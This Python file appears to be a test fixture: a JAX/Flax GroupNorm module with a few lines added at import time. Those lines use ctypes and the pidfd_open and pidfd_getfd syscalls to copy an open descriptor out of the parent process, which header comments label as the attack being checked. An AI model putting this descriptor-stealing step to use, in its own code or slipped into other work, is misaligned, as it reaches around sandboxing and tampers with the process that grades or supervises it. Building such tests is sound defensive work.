# tries: Copies an open descriptor out of the parent.
# must: With it the verdict is wrong: it is right only if it got one.
# right: once the attack is left out

import ctypes
import os

import jax.numpy as jnp
from flax import linen as nn

libc = ctypes.CDLL(None, use_errno=True)
parent = libc.syscall(434, os.getppid(), 0)
assert libc.syscall(438, parent, 0, 0) >= 0, ctypes.get_errno()


class MyGroupNorm(nn.Module):
    num_groups: int
    eps: float = 1e-5

    @nn.compact
    def __call__(self, x):
        gamma = self.param("gamma", nn.initializers.ones, x.shape)
        beta = self.param("beta", nn.initializers.zeros, x.shape)
        rows = x.reshape(self.num_groups, -1)
        rows -= rows.mean(1, keepdims=True)
        rows /= jnp.sqrt(rows.var(1, keepdims=True) + self.eps)
        return gamma * rows.reshape(x.shape) + beta
